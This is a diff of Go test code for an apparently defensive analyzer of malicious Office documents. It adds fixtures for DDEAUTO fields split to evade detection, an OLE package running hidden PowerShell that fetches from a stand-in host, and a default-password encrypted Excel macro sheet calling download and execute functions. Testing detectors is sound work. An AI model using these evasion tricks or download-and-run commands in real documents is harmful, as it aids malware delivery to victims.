@@ -107,6 +107,46 @@ func TestWordBinaryDDE(t *testing.T) {
 	}
 }
 
+// TestWordDDEPieces: a DDEAUTO instruction whose text is split over
+// pieces stored apart (8-bit and UTF-16, in reverse order with filler
+// between: the raw stream shows no DDE instruction), and one split by a
+// nested field ("DD{QUOTE}EAUTO", or spelled by a nested field's result),
+// are found through the piece table and nested-field results. Benign
+// twins: split HYPERLINK and PAGE fields, nested QUOTE in an ordinary
+// field, DDEAUTO named in running text.
+func TestWordDDEPieces(t *testing.T) {
+	type P = testdoc.WordPiece
+	pos := map[string][]P{
+		"two pieces":    {{Text: "Dear customer,\r\x13 DD", Wide: false}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}},
+		"three pieces":  {{Text: "Hello \x13D", Wide: true}, {Text: "DEA", Wide: false}, {Text: "UTO c:\\Windows\\System32\\mshta.exe http://example.invalid/a \x15", Wide: true}},
+		"nested empty":  {{Text: "x \x13DD\x13 QUOTE \"\" \x14\x15EAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"\x15 y", Wide: false}},
+		"nested spells": {{Text: "x \x13\x13 QUOTE 68 68 69 \x14DDE\x15 c:\\windows\\system32\\cmd.exe \"/c calc\" \x15 y", Wide: true}},
+	}
+	for name, pieces := range pos {
+		doc := testdoc.WordDocPieces(pieces)
+		r := AnalyzeOLE(doc, Limits{})
+		if r.Kind != "doc" || len(r.DDE) == 0 || !strings.HasPrefix(strings.ToUpper(r.DDE[0]), "DDE") {
+			t.Errorf("%s: %+v", name, r)
+		}
+		// the raw stream alone does not show it
+		raw := &Report{}
+		raw.wordFields(streamOf(t, doc, "WordDocument"))
+		if len(raw.DDE) > 0 {
+			t.Errorf("%s: test document is not split: %q", name, raw.DDE)
+		}
+	}
+	neg := map[string][]P{
+		"split hyperlink": {{Text: "See \x13 HYPER", Wide: false}, {Text: "LINK \"https://example.com/dde\" \x14site\x15 and \x13 PA", Wide: true}, {Text: "GE \x14 3\x15.", Wide: false}},
+		"nested quote":    {{Text: "\x13 IF \x13 QUOTE 1 \x14 1\x15 = 1 \"DDE\" \"no\" \x14DDE\x15 text", Wide: true}},
+		"running text":    {{Text: "Never enable DDE", Wide: false}, {Text: "AUTO links: see \x13 REF ddeauto \x14x\x15.", Wide: true}},
+	}
+	for name, pieces := range neg {
+		if r := AnalyzeOLE(testdoc.WordDocPieces(pieces), Limits{}); len(r.DDE) > 0 {
+			t.Errorf("benign %s: %q", name, r.DDE)
+		}
+	}
+}
+
 func TestOLEPackageCommand(t *testing.T) {
 	cmd := testdoc.Ole10Native("readme.txt", `C:\Windows\System32\cmd.exe`, 1, `cmd.exe /c powershell -w hidden -c "iwr http://example.invalid/a"`, nil)
 	exe := testdoc.Ole10Native("invoice.pdf", `C:\Users\a\invoice.exe`, 3, `C:\Temp\invoice.exe`, append([]byte("MZ"), make([]byte, 64)...))
@@ -176,6 +216,47 @@ func TestRTFExploitClasses(t *testing.T) {
 	for name, b := range benign {
 		if r := AnalyzeRTF(b, Limits{}); r.RTFExploitable {
 			t.Errorf("%s flagged as exploit: %+v", name, r)
+		}
+	}
+}
+
+// TestEncryptedXLSDefaultPassword: a BIFF8 workbook encrypted with RC4 or
+// RC4 CryptoAPI under Excel's default password "VelvetSweatshop" (it opens
+// without a prompt) is decrypted and its macro sheets read; under another
+// password it stays encrypted (the analyzer's unscannable finding) and
+// its sheets unseen. Benign twin: a default-password workbook with
+// ordinary sheets only.
+func TestEncryptedXLSDefaultPassword(t *testing.T) {
+	// 300 ordinary formulas first: the macro sheet lies blocks (1024 bytes,
+	// one RC4 key each) into the stream.
+	var many [][]byte
+	for i := 0; i < 300; i++ {
+		many = append(many, benignFormulas(8)...)
+	}
+	sheets := []testdoc.Sheet{{Name: "Sheet1", Formulas: many}, {Name: "Macro1", Macro: true, State: 2, Formulas: dropperFormulas(8)}}
+	for _, capi := range []bool{false, true} {
+		kind := map[bool]string{false: "rc4", true: "rc4-cryptoapi"}[capi]
+		r := AnalyzeOLE(testdoc.EncryptedXLS(sheets, true, DefaultExcelPassword, capi), Limits{})
+		if !r.Encrypted || r.EncryptionType != kind || !r.DefaultPassword {
+			t.Fatalf("%s: %+v", kind, r)
+		}
+		if !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || !slices.Equal(r.XLMSheets, []string{"Macro1"}) {
+			t.Errorf("%s: macro sheet not read after decryption: %+v", kind, r)
+		}
+		for _, c := range []string{"REGISTER", "EXEC", "URLDownloadToFileA"} {
+			if !slices.Contains(r.XLMCalls, c) {
+				t.Errorf("%s: %s missing from %q", kind, c, r.XLMCalls)
+			}
+		}
+		// another password: encrypted, nothing read
+		o := AnalyzeOLE(testdoc.EncryptedXLS(sheets, true, "s3cret", capi), Limits{})
+		if !o.Encrypted || o.DefaultPassword || o.XLM || len(o.XLMCalls) > 0 {
+			t.Errorf("%s other password: %+v", kind, o)
+		}
+		// benign twin
+		b := AnalyzeOLE(testdoc.EncryptedXLS([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(8)}, {Name: "Sheet2", State: 1}}, false, DefaultExcelPassword, capi), Limits{})
+		if !b.DefaultPassword || b.XLM || b.XLMHidden || b.XLMAutoOpen || len(b.XLMCalls) > 0 {
+			t.Errorf("%s benign: %+v", kind, b)
 		}
 	}
 }
